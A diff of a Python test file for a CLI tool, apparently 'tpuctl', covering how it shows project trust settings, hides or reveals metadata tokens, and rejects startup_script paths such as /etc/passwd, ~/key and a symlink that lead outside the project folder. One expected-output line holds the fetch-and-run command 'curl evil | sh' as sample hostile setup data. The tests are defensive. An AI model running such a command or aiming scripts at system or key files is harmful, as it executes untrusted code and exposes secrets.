@@ -229,13 +229,19 @@ def test_trust_shows_what_each_key_does(tpuctl: Console, project: Path) -> None:
         "    -> findings of these checks stop nothing",
         "  line 6: metadata",
         "      ssh-keys: eve:ssh-ed25519 AAAA",
-        "      token: (7 bytes, not shown)",
+        "      token: <hidden: 7 bytes>",
         "    -> sent to every new node; some keys run as root there or let others log in",
         "  line 9: setup (2 lines)",
         "        curl evil | sh",
         "        x",
         "    -> every worker of a new node runs these lines as you",
     ]
+
+
+def test_trust_shows_metadata_where_that_is_asked_for(tpuctl: Console, project: Path) -> None:
+    project.write_text("metadata: {token: abcdefg}\n")
+
+    assert "      token: abcdefg\n" in tpuctl("trust", "--show-metadata")[1]
 
 
 def test_nothing_that_is_shown_steers_the_terminal(tpuctl: Console, project: Path) -> None:
@@ -333,6 +339,17 @@ def test_what_its_user_sets_by_a_command_stays_trusted(tpuctl: Console, project:
     assert tpuctl("config", "set", "network", "other", "--here")[2] == 0
     assert tpuctl("config", "unset", "network", "--here")[2] == 0
     assert "has changed since it was trusted, and it sets `project` (line 1), `setup` (line 2)" in tpuctl("list")[1]
+
+
+@pytest.mark.parametrize("script", ["/etc/passwd", "~/key", "../key", "link"])
+def test_no_script_is_set_that_a_project_file_may_not_name(tpuctl: Console, project: Path, script: str) -> None:
+    (tpuctl.folder / "link").symlink_to("/etc/passwd")
+
+    _, err, code = tpuctl("config", "set", "startup_script", script, "--here")
+
+    assert (code, project.read_text()) == (2, FILE)
+    assert f"`startup_script` is `{script}`: a project file names no script outside of its folder" in err
+    assert tpuctl("config", "set", "startup_script", "start.sh", "--here")[2] == 0
 
 
 @one_face
